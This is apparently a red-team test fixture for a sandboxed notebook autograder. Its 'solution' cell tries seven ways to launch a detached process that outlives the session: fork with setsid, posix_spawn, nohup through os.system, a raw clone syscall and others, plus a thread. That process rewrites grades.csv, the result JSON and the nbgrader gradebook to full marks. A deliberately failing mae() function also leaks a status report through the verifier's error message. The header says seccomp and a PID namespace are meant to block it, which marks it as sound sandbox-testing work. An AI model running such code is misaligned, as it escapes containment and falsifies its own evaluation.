# Starts a detached process (subprocess with start_new_session, fork + setsid, posix_spawn, multiprocessing, os.system, pty.fork, a raw clone) and a thread that wait for OUT/grades.csv and then rewrite its own row, OUT/results/<self>.json and the gradebook; stopped by seccomp (no new process), the PID namespace that ends with the kernel (the thread dies with it) and OUT not being in the box.
# where: solution
# %%
import ctypes
import errno
import json
import multiprocessing
import os
import pty
import subprocess
import sys

REPORT = {}
WRITER = r'''
import json, os, sqlite3, sys, time
out, me, token = sys.argv[1], sys.argv[2], sys.argv[3]
deadline = time.time() + 90
while time.time() < deadline and not os.path.exists(os.path.join(out, "grades.csv")):
    time.sleep(0.2)
time.sleep(1)
try:
    path = os.path.join(out, "grades.csv")
    rows = open(path).read().splitlines()
    rows = [",".join([me, "5", "5", "2", "3", token]) if r.split(",")[0] == me else r for r in rows]
    open(path, "w").write("\n".join(rows) + "\n")
except Exception:
    pass
try:
    path = os.path.join(out, "results", me + ".json")
    result = json.load(open(path))
    for cell in result["cells"].values():
        cell["score"] = cell["max_score"]
    result["score"], result["flags"] = result["max_score"], []
    json.dump(result, open(path, "w"))
except Exception:
    pass
try:
    db = sqlite3.connect("file:" + os.path.join(out, "nbgrader", "gradebook.db") + "?mode=rw", uri=True)
    db.execute("UPDATE grade SET manual_score = 2 WHERE manual_score IS NOT NULL OR auto_score IS NOT NULL")
    db.commit()
except Exception:
    pass
'''
ARGV = [sys.executable, "-c", WRITER, "__OUT__", "__STUDENT__", "__TOKEN__"]


def attempt(label, action):
    try:
        action()
        REPORT[label] = "ok"
    except Exception as exc:
        code = getattr(exc, "errno", None)
        REPORT[label] = type(exc).__name__ + (f":{errno.errorcode.get(code, code)}" if code else "")


def popen():
    subprocess.Popen(ARGV, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, close_fds=True)


def fork_setsid():
    pid = os.fork()
    if pid == 0:            # the child: a new session, a grandchild that outlives everyone
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, ARGV)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def spawn():
    os.posix_spawn(sys.executable, ARGV, {"PATH": "/usr/bin:/bin"}, setsid=True)


def multiprocess():
    process = multiprocessing.get_context("fork").Process(target=os.execv, args=(sys.executable, ARGV))
    process.daemon = False
    process.start()


def system():
    status = os.system(" ".join(["nohup", sys.executable, "-c", "'" + WRITER.replace("'", "\"") + "'",
                                 "__OUT__", "__STUDENT__", "__TOKEN__", "</dev/null", ">/dev/null", "2>&1", "&"]))
    if status != 0:
        raise OSError(errno.EPERM, f"os.system returned {status}")


def forkpty():
    pid, _ = pty.fork()
    if pid == 0:
        os.execv(sys.executable, ARGV)


def raw_clone():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = libc.syscall(56, 17, 0, 0, 0, 0)     # clone(SIGCHLD): a fork by another name
    if pid == 0:
        libc._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), "clone refused")


attempt("popen new session", popen)
attempt("fork + setsid", fork_setsid)
attempt("posix_spawn", spawn)
attempt("multiprocessing", multiprocess)
attempt("os.system", system)
attempt("pty.fork", forkpty)
attempt("raw clone", raw_clone)


def mae(preds, actuals):   # wrong: the report travels back in the verification's message
    raise RuntimeError("REPORT " + json.dumps(REPORT))


print("REPORT", json.dumps(REPORT))
# %%
import threading

exec_globals = {"__name__": "writer"}


def writer_thread():     # the same writer, as a thread of the kernel: dies with the kernel's box
    sys.argv = ARGV[2:]
    sys.argv.insert(0, "writer")
    exec(WRITER, exec_globals)


threading.Thread(target=writer_thread, daemon=False).start()
print("REPORT", json.dumps({"box:thread": "started"}))
print("ATTACK-DONE")
